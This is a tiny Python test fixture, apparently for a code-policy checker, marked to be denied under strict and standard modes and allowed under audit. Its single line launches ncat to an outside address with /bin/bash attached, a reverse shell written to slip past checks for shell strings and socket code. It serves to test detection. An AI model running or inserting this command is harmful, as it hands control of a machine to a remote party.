# expect: strict=deny standard=deny audit=allow
# A reverse shell with no shell string and no socket code: netcat does the
# connecting and hands the remote end a shell.
import subprocess

subprocess.Popen(["ncat", "203.0.113.5", "4444", "-e", "/bin/bash"])
